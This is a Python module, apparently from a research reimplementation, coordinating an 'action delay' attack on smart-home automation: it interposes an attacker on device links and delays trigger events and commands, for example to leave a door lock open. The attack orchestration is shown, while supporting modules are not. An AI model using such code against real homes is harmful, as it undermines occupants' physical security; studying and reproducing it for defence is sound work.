"""Type-II: Action Delay Attack (Section V-B).

An automation rule's action is delayed by e-Delaying its trigger event,
c-Delaying its command, or both (the paper's August-lock case combines
them for a >=60 s window).  The disorder variant delays one of two opposing
actions past the other, leaving e.g. a door unlocked overnight.
"""

from __future__ import annotations

from ...devices.base import IoTDevice
from ..attacker import PhantomDelayAttacker
from ..predictor import TimeoutBehavior
from ..primitives import CDelay, DelayOperation, EDelay


class ActionDelay:
    """Coordinates trigger-side and command-side delays for one rule."""

    def __init__(
        self,
        attacker: PhantomDelayAttacker,
        trigger_device: IoTDevice | None = None,
        action_device: IoTDevice | None = None,
        peer_ip: str | None = None,
    ) -> None:
        if trigger_device is None and action_device is None:
            raise ValueError("need a trigger device, an action device, or both")
        self.attacker = attacker
        self.trigger_device = trigger_device
        self.action_device = action_device
        self._e_delay: EDelay | None = None
        self._c_delay: CDelay | None = None
        self.operations: list[DelayOperation] = []

        if trigger_device is not None:
            ip = trigger_device.uplink_ip
            attacker.interpose(ip, peer_ip=peer_ip)
            self._e_delay = attacker.e_delay(
                ip, TimeoutBehavior.from_profile(trigger_device.profile)
            )
        if action_device is not None:
            ip = action_device.uplink_ip
            attacker.interpose(ip, peer_ip=peer_ip)
            self._c_delay = attacker.c_delay(
                ip, TimeoutBehavior.from_profile(action_device.profile)
            )

    def arm_trigger_delay(self, duration: float | None = None) -> DelayOperation:
        """e-Delay the rule's trigger event."""
        if self._e_delay is None or self.trigger_device is None:
            raise RuntimeError("no trigger device configured")
        operation = self._e_delay.arm(
            duration=duration,
            trigger_size=self.trigger_device.profile.event_size,
            label=f"type-II-trigger:{self.trigger_device.device_id}",
        )
        self.operations.append(operation)
        return operation

    def arm_command_delay(self, duration: float | None = None) -> DelayOperation:
        """c-Delay the rule's action command."""
        if self._c_delay is None or self.action_device is None:
            raise RuntimeError("no action device configured")
        operation = self._c_delay.arm(
            duration=duration,
            trigger_size=self.action_device.profile.command_size,
            label=f"type-II-command:{self.action_device.device_id}",
        )
        self.operations.append(operation)
        return operation

    @property
    def total_window(self) -> float:
        """Combined achieved delay across both sides (paper: >=60 s)."""
        return sum(op.achieved_delay or 0.0 for op in self.operations)
